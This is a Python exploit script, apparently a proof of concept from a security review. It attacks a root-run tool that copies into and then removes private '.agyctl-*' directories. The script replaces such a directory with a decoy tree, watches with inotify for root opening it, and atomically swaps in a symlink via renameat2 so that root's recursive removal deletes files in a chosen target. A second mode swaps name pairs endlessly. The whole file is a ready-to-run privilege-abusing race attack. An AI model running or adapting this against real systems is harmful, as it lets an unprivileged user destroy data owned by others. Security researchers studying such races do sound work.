# A user's race against root's runs, as the review ran it: names swapped
# with renameat2(RENAME_EXCHANGE), so a name is always there, a directory
# one moment and a link the next, with no gap between. Falls back to three
# renames where the kernel or filesystem has no RENAME_EXCHANGE.
#
#   pairs A1 B1 [A2 B2 ...]
#       Exchange each pair over and over.
#   private DIR TARGET FILLERS NAME...
#       Wait for a private dir `.agyctl-*` in DIR to get a subdirectory (its
#       run is copying into it), rename it away and put a tree of ours under
#       its name: the files NAME... (TARGET's names, guessed) and FILLERS
#       empty files. When the run opens that tree to list it (a removal by
#       path: the name was a directory when it looked, and the directory is
#       not empty), exchange it with a link to TARGET: every path the
#       removal goes on with then leads into TARGET.
#
# Runs until killed.
import ctypes
import os
import select
import stat
import struct
import sys

AT_FDCWD, RENAME_EXCHANGE = -100, 2
IN_OPEN = 0x20
ENOENT, EINVAL, ENOSYS = 2, 22, 38
_libc = ctypes.CDLL(None, use_errno=True)
_renameat2 = getattr(_libc, "renameat2", None)
if _renameat2 is not None:
    _renameat2.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_int, ctypes.c_char_p, ctypes.c_uint]


def exchange(a, b):
    """Swap two names; False once one of them is gone."""
    global _renameat2
    if _renameat2 is not None:
        if _renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0:
            return True
        err = ctypes.get_errno()
        if err not in (EINVAL, ENOSYS):
            return err != ENOENT
        _renameat2 = None
    try:
        os.rename(a, a + b".swap")
        os.rename(b, a)
        os.rename(a + b".swap", b)
        return True
    except FileNotFoundError:
        return False
    except OSError:
        return True


def run_pairs(argv):
    pairs = [(os.fsencode(argv[i]), os.fsencode(argv[i + 1])) for i in range(0, len(argv), 2)]
    while True:
        for a, b in pairs:
            exchange(a, b)


def plant(top, target, fillers, names):
    """Our tree at `top` (TARGET's names and empty fillers), with a link to TARGET beside it."""
    os.mkdir(top)
    for name in names:
        os.makedirs(os.path.dirname(os.path.join(top, name)), exist_ok=True)
        with open(os.path.join(top, name), "wb") as f:
            f.write(b"ours")
    for k in range(fillers):
        open(os.path.join(top, b"f%d" % k), "wb").close()
    os.symlink(target, top + b".l")


def opened(data):
    """Watch descriptors of the watched directories themselves (not a file in them) that were opened."""
    wds, off = [], 0
    while off < len(data):
        wd, mask, _cookie, length = struct.unpack_from("iIII", data, off)
        if mask & IN_OPEN and length == 0:
            wds.append(wd)
        off += 16 + length
    return wds


def run_private(argv):
    parent, target, fillers = os.fsencode(argv[0]), os.fsencode(argv[1]), int(argv[2])
    names = [os.fsencode(name) for name in argv[3:]]
    inotify = _libc.inotify_init1(0)
    ours, watched, rounds = set(), {}, 0
    while True:
        rounds += 1
        for entry in os.scandir(parent):
            if not entry.name.startswith(b".agyctl-") or entry.name in ours:
                continue
            try:
                st = os.lstat(entry.path)
            except OSError:
                continue
            if not stat.S_ISDIR(st.st_mode) or st.st_nlink < 3:
                continue
            moved = b"%s.moved%d" % (entry.name, rounds)
            ours.update((entry.name, moved, entry.name + b".l", entry.name + b".swap"))
            try:
                os.rename(entry.path, os.path.join(parent, moved))
                plant(entry.path, target, fillers, names)
            except OSError:
                continue
            watched[_libc.inotify_add_watch(inotify, entry.path, IN_OPEN)] = entry.path
        # Root's removal comes once its copy is done: while a tree waits for it, sleep until it comes.
        if select.select([inotify], [], [], 0.05 if watched else 0.0005)[0]:
            for wd in opened(os.read(inotify, 65536)):
                top = watched.pop(wd, None)
                if top is not None:
                    exchange(top, top + b".l")
                    _libc.inotify_rm_watch(inotify, wd)


if __name__ == "__main__":
    {"pairs": run_pairs, "private": run_private}[sys.argv[1]](sys.argv[2:])
